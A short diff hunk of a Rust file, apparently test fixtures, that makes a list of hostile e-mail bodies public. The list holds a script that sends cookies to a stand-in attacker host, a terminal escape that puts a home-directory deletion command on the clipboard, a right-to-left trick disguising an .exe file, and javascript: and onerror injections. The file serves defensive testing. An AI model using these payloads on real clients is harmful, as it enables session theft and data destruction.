@@ -45,7 +45,8 @@ const SUBJECTS: &[&str] = &[
     "Réservation",
 ];
 
-const HOSTILE_BODIES: &[&str] = &[
+/// Bodies of e-mails that attack whoever shows them.
+pub const HOSTILE_BODIES: &[&str] = &[
     "<script>fetch('https://evil.example/'+document.cookie)</script>",
     "<p>\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2J\u{202e}gnp.exe</p>",
     "<a href=\"javascript:alert(1)\">Rechnung</a><img src=x onerror=alert(1)>",
